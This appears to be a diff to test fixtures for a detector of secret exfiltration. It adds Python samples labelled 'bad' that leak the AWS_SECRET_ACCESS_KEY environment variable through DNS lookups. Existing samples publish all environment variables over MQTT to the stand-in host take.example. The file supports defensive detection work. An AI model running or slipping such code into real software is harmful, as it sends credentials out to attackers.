@@ -2,7 +2,7 @@ import type { DetectorExamples } from '../detector.ts';
 
 const sent = { source: 'environment', sink: 'network.body', to: 'take.example' } as const;
 
-/** What the detector sees of data that a client sends in more than one step, or that a function sends which another one calls. */
+/** What the detector sees of data that a client sends in more than one step, that a function sends which another one calls, or that is looked up. */
 export const throughClients: DetectorExamples = {
   bad: [
     {
@@ -83,6 +83,36 @@ export const throughClients: DetectorExamples = {
       code: 'import json, os\nimport paho.mqtt.client as mqtt\nclient = mqtt.Client()\nclient.connect("take.example")\nclient.publish("all", json.dumps(dict(os.environ)))',
       why: 'the same in Python, with the host by itself',
       attributes: sent,
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import os, socket',
+        'from urllib.parse import urlparse',
+        "socket.getaddrinfo(urlparse(os.environ['AWS_SECRET_ACCESS_KEY']).hostname, 443)",
+      ].join('\n'),
+      why: 'as the host of an address',
+      attributes: {
+        source: 'environment:AWS_SECRET_ACCESS_KEY',
+        sink: 'dns.host',
+        to: 'dynamic',
+      },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import os, socket',
+        'from urllib.parse import urlparse',
+        'def check(url):',
+        '    socket.getaddrinfo(urlparse(url).hostname, 443)',
+        "check('https://' + os.environ['AWS_SECRET_ACCESS_KEY'] + zone)",
+      ].join('\n'),
+      why: 'in the labels of the host of an address that is put together',
+      attributes: {
+        source: 'environment:AWS_SECRET_ACCESS_KEY',
+        sink: 'dns.name',
+        to: 'dynamic',
+      },
     },
   ],
   good: [
